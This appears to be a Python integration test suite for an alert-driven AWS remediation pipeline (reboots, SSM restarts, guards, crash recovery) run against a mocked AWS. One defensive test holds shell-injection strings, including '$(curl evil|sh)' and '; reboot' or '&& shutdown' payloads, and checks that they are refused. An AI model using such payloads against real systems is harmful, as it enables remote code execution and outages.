"""The whole domain path against moto's server, as the Celery chain runs it step by step:
assess -> plan -> guard -> execute -> verify -> record outcome (and recover after a crash)."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest
from aws_moto_support import REGION

from pipeline.catalog import Catalog
from pipeline.policy import ActionName, Decision, Policy
from pipeline.remediation import (
    InMemoryGuardStore,
    PlanRefused,
    RemediationPlan,
    RemediationRequested,
    guard_step,
    plan,
    plan_request,
)
from pipeline.remediation.guards import BreakerPhase
from pipeline.risk import IncidentFacts, TargetHistory, assess

pytestmark = pytest.mark.integration

NOW = datetime(2026, 3, 4, 10, 0, tzinfo=UTC)
DOCUMENT = "SmartCloudOps-RestartSystemdUnit"


class _Alert:
    def __init__(self, **labels: str) -> None:
        self.labels = labels


@pytest.fixture
def estate(setup_client):
    """Three search instances in the catalog and one instance that belongs to nobody."""
    ec2 = setup_client("ec2")
    answer = ec2.run_instances(
        ImageId="ami-12c6146b", MinCount=4, MaxCount=4, InstanceType="t3.micro"
    )
    ids = [i["InstanceId"] for i in answer["Instances"]]
    content = {
        "schemaVersion": "2.2",
        "description": "restart a unit",
        "parameters": {"unit": {"type": "String", "allowedPattern": "^[a-zA-Z0-9@._-]{1,64}$"}},
        "mainSteps": [
            {
                "action": "aws:runShellScript",
                "name": "restart",
                "inputs": {"runCommand": ["systemctl restart '{{ unit }}'"]},
            }
        ],
    }
    setup_client("ssm").create_document(
        Content=json.dumps(content), Name=DOCUMENT, DocumentType="Command"
    )
    catalog = Catalog.model_validate(
        {
            "services": [
                {
                    "name": "search",
                    "tier": 2,
                    "aws": {"region": REGION, "instance_ids": ids[:3]},
                    "systemd_units": ["opensearch.service"],
                }
            ]
        }
    )
    policy = Policy.model_validate(
        {
            "approvals": {"roles": ["sre-oncall"]},
            "actions": {"ec2_reboot": {}, "ssm_run_command": {"documents": [{"name": DOCUMENT}]}},
            "rules": [
                {
                    "name": "reboot-down",
                    "match": {"alertnames": ["InstanceDown"]},
                    "actions": [{"action": "ec2_reboot"}],
                }
            ],
        }
    )
    return catalog, policy, ids[:3], ids[3]


def _incident(catalog, instance_id: str) -> IncidentFacts:
    alert = _Alert(
        alertname="InstanceDown", service="search", severity="warning", instance_id=instance_id
    )
    return IncidentFacts.from_alerts(catalog, incident_id="101", alerts=[alert])


def test_instance_down_is_rebooted_verified_and_recorded(estate, actions, calls) -> None:
    catalog, policy, ours, _ = estate
    store = InMemoryGuardStore()
    facts = _incident(catalog, ours[0])

    assessment = assess(facts, TargetHistory(), policy, NOW)
    planned = plan(facts, assessment, catalog, policy)
    assert isinstance(planned, RemediationPlan) and planned.decision is Decision.AUTO
    [step] = planned.steps
    verdict = guard_step(store, planned, step, catalog, policy, approved=False, now=NOW)
    action = actions[step.action]
    executed = action.execute(step.params, dry_run=False, idempotency_key=step.idempotency_key)
    verified = action.verify(step.params, executed, timeout_s=5, poll_s=0.1)
    breaker = store.record_outcome(step.action, verified.ok, policy.guards, NOW)

    assert verdict.allowed
    assert calls.mutating == ["RebootInstances"]
    assert executed.request == {"InstanceIds": [ours[0]]}
    assert verified.ok and breaker.phase is BreakerPhase.CLOSED
    again = guard_step(store, planned, step, catalog, policy, approved=False, now=NOW)
    assert again.reason_code == "already_reserved"  # a redelivered guard task is harmless


def test_foreign_instance_in_an_alert_is_refused_before_any_aws_call(estate, calls) -> None:
    catalog, policy, _, foreign = estate
    facts = _incident(catalog, foreign)

    refused = plan(facts, assess(facts, TargetHistory(), policy, NOW), catalog, policy)

    assert isinstance(refused, PlanRefused) and refused.reason_code == "foreign_instance"
    assert foreign in refused.detail
    assert calls.operations == []


@pytest.mark.parametrize("instance", ["i-0abc;reboot", "$(curl evil|sh)", "i-1 && shutdown"])
def test_shell_metacharacters_from_chat_are_refused_before_any_aws_call(
    estate, calls, instance
) -> None:
    catalog, policy, _, _ = estate
    request = RemediationRequested(
        request_id="slack-9",
        service="search",
        action="reboot",
        requested_by="bob",
        instance=instance,
    )
    refused = plan_request(request, catalog, policy)
    assert isinstance(refused, PlanRefused) and refused.reason_code == "invalid_parameter"
    assert calls.operations == []


def test_a_crash_after_sending_is_recovered_and_verified_without_acting_twice(
    estate, actions, calls
) -> None:
    catalog, policy, ours, _ = estate
    request = RemediationRequested(
        request_id="slack-10",
        service="search",
        action="restart",
        requested_by="bob",
        instance=ours[1],
    )
    planned = plan_request(request, catalog, policy)
    [step] = planned.steps
    action = actions[ActionName.SSM_RUN_COMMAND]
    sent = action.execute(step.params, dry_run=False, idempotency_key=step.idempotency_key)
    # The worker dies here: the answer above is lost. The redelivered task recovers instead.

    recovered = action.recover(step.params, step.idempotency_key)
    verified = action.verify(step.params, recovered, timeout_s=5, poll_s=0.1)

    assert recovered.response_summary == {
        "recovered": True,
        "command_id": sent.response_summary["command_id"],
    }
    assert verified.ok and verified.observed_state["status"] == "Success"
    assert calls.mutating == ["SendCommand"]


def test_recovering_a_step_that_never_sent_reports_failure(estate, actions, calls) -> None:
    catalog, policy, ours, _ = estate
    request = RemediationRequested(
        request_id="slack-11",
        service="search",
        action="restart",
        requested_by="bob",
        instance=ours[2],
    )
    [step] = plan_request(request, catalog, policy).steps
    action = actions[ActionName.SSM_RUN_COMMAND]

    recovered = action.recover(step.params, step.idempotency_key)
    verified = action.verify(step.params, recovered, timeout_s=1, poll_s=0.1)

    assert recovered.response_summary["command_id"] is None
    assert not verified.ok and verified.observed_state["status"] == "NotSent"
    assert calls.mutating == []
